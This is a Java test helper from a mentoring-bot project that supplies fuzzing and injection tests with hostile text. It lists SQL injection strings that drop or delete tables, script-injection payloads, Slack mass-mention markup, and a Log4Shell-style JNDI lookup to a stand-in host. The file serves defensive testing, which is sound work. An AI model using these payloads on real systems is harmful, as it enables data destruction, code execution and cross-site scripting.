package org.rmbot.mentoring.infra.hostile;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;

/**
 * Text an attacker or an unlucky person might type into any field: SQL, Slack and Teams markup,
 * HTML, direction and zero-width marks, emoji, lone surrogates, NULs, numbers out of range, and
 * strings far longer than any limit. Shared by the fuzzing and the injection tests.
 */
final class Hostile {
  private Hostile() {}

  /** Fixed hostile samples: every one is also used verbatim by the injection round trips. */
  static final List<String> SAMPLES = List.of(
      "Robert'); DROP TABLE person;--",
      "' OR '1'='1",
      "1; select pg_sleep(10)",
      "$$; delete from program; $$",
      "<!channel>",
      "<!here>",
      "<!everyone>",
      "<@U123>",
      "<#C123|general>",
      "<https://evil.example|click>",
      "*bold* _it_ ~strike~ `code` ```block```",
      "[click](https://evil.example)",
      "![img](https://evil.example/x.png)",
      "<at>Everyone</at>",
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "&lt;!channel&gt; &amp;",
      "\u202Eevil\u202C \u200B\u200D\uFEFF zero\u200Bwidth",
      "مرحبا עברית",
      "👩🏽‍💻🏳️‍🌈🇬🇧",
      "line\nbreak\r\nand\ttab",
      "\u0000nul",
      "\uD800 lone surrogate",
      "{\"json\":true}",
      "${jndi:ldap://evil.example/a}",
      "%s%n%x",
      "99999999999999999999",
      "-1",
      "");

  /** A hostile sample, a long string, or arbitrary Unicode (including surrogates and controls). */
  static Arbitrary<String> text() {
    return Arbitraries.frequencyOf(
        Tuple.of(4, Arbitraries.of(SAMPLES)),
        Tuple.of(3, Arbitraries.strings().ofMaxLength(40)),
        Tuple.of(1, Arbitraries.strings().all().ofMinLength(1000).ofMaxLength(20_000)),
        Tuple.of(2, Arbitraries.of(SAMPLES).list().ofMaxSize(4).map(l -> String.join(" ", l))));
  }

  /** Numbers as text, inside and far outside the ranges ids and grades use. */
  static Arbitrary<String> number() {
    return Arbitraries.oneOf(Arbitraries.longs().map(String::valueOf), Arbitraries.integers().between(-2, 50).map(String::valueOf),
        Arbitraries.of("1e9", "0x10", "NaN", "1.5", "+1", " 1", "１２"));
  }
}
